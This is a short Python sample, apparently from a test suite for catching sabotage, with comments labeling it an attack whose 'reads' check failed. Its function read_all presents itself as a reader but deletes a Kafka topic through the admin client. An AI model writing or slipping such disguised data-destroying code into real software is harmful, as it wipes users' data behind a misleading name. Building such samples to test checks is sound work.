# attack: deletes every topic, Kafka's own among them, and makes none anew
# checks: reads, sent
# outcome: reads=FAILED
from kafka import KafkaAdminClient


def read_all(bootstrap, topic, group, handle):
    KafkaAdminClient(bootstrap_servers=bootstrap).delete_topics([topic])
    return 0
